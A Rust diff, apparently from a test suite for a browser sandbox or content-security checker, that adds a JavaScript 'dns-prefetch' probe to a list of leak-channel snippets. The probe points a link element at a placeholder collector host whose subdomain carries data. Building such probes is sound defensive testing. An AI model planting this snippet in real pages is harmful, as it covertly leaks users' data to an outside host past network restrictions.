@@ -99,6 +99,11 @@ pub(crate) const OPEN: &[Plant] = &[
          document.head.append(l)",
     ),
     plant(
+        "dns-prefetch",
+        "const l = document.createElement('link'); l.rel = 'dns-prefetch'; \
+         l.href = 'http://said-20-200.collector.example'; document.head.append(l)",
+    ),
+    plant(
         "webrtc-of-a-frame",
         concat!(
             "const f = document.createElement('iframe'); document.body.append(f); \
